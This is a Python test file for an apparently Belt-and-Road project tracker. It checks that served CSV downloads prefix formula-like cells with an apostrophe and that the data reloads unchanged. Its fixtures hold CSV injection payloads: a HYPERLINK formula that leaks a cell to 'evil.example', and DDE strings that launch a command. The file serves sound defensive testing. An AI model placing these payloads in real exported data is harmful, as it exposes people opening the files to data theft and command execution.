"""Finding 4 of issue 16: text that a spreadsheet would run as a formula comes out of every CSV
we serve with a leading apostrophe, and `bri-tracker load` reads our CSV back unchanged."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.engine import Engine

from app.config import Settings
from app.db import build_engine
from app.loader import load_paths
from app.main import create_app
from app.migrate import upgrade
from app.spreadsheet import FORMULA_STARTS, neutralise, restore
from tests.helpers import MINI, fresh_database_url
from tests.live import running

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
QUOTED = "'=already quoted by its author"
HOSTILE_DATASET = f"""
sources:
  - slug: formula-source
    title: {HYPERLINK!r}
    publisher: "{DDE}"
    kind: news
    note: "\\t=1+1"
projects:
  - slug: formula-project
    name: "{AT_SUM}"
    technology: wind
    countries: [CHN]
    sources: [formula-source]
    summary: "{MINUS}"
    metrics:
      - id: generation
        kind: generation
        value: 5
        unit: GWh
        period: annual
        basis: claimed
        source: formula-source
        baseline: "{QUOTED}"
        note: "=1+1"
statements:
  - slug: formula-statement
    text: {HYPERLINK!r}
    form: paraphrase
    source: formula-source
    projects: [formula-project]
"""
DOWNLOADS = ["/projects.csv", "/metrics.csv", "/statements.csv"]


@pytest.fixture
def hostile_dataset(tmp_path: Path) -> Path:
    folder = tmp_path / "dataset"
    shutil.copytree(MINI, folder)
    (folder / "formulas.yaml").write_text(HOSTILE_DATASET, encoding="utf-8")
    return folder


@pytest.fixture
def hostile_server(engine: Engine, db_url: str, hostile_dataset: Path):  # type: ignore[no-untyped-def]
    load_paths(engine, [hostile_dataset])
    app = create_app(Settings(database_url=db_url))
    with running(app) as base_url:
        yield base_url
    app.state.engine.dispose()


def _cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def _assert_no_formula(name: str, cells: list[str]) -> None:
    for cell in cells:
        if cell[:1] in FORMULA_STARTS:
            float(cell)  # only a number may start with "-" or "+": anything else fails here


def test_no_served_csv_cell_starts_a_formula(hostile_server: str) -> None:
    served: dict[str, list[str]] = {}
    with httpx.Client(base_url=hostile_server) as client:
        for path in DOWNLOADS:
            response = client.get(path)
            assert response.status_code == 200, path
            served[path] = _cells(response.text)
        package = client.get("/data/bri-tracker-datapackage.zip")
        assert package.status_code == 200
    with zipfile.ZipFile(io.BytesIO(package.content)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                served[name] = _cells(archive.read(name).decode("utf-8"))
    for name, cells in served.items():
        _assert_no_formula(name, cells)
    assert "'" + AT_SUM in served["/projects.csv"]
    assert "'" + HYPERLINK in served["/statements.csv"]
    assert "'" + QUOTED in served["/metrics.csv"]  # escaped once more, so it reads back whole
    assert "'=1+1" in served["sources.csv"]  # the loader trimmed the tab; still made inert
    assert "'" + DDE in served["sources.csv"]
    assert "'" + MINUS in served["projects.csv"]


def test_the_served_package_loads_back_with_the_original_text(
    hostile_server: str, tmp_path: Path
) -> None:
    package = httpx.get(f"{hostile_server}/data/bri-tracker-datapackage.zip")
    folder = tmp_path / "package"
    with zipfile.ZipFile(io.BytesIO(package.content)) as archive:
        archive.extractall(folder)
    target = build_engine(Settings(database_url=fresh_database_url(tmp_path, "reloaded")))
    upgrade(target)
    try:
        load_paths(target, [folder])
        with target.connect() as conn:
            title, publisher = conn.execute(
                text("SELECT title, publisher FROM source WHERE slug='formula-source'")
            ).one()
            name = conn.execute(text("SELECT name FROM project WHERE slug='formula-project'"))
            baseline = conn.execute(text("SELECT baseline FROM metric WHERE slug LIKE 'formula%'"))
            assert (title, publisher) == (HYPERLINK, DDE)
            assert name.scalar() == AT_SUM
            assert baseline.scalar() == QUOTED
    finally:
        target.dispose()


@pytest.mark.parametrize(
    "original",
    ["", "'", "''", "plain", "China's", "=1", "'=1", "''=1", "-2", "+", "@", "\t=1", "\r=1"],
)
def test_neutralise_round_trips_and_never_starts_a_formula(original: str) -> None:
    served = neutralise(original)
    assert served[:1] not in FORMULA_STARTS
    assert restore(served) == original
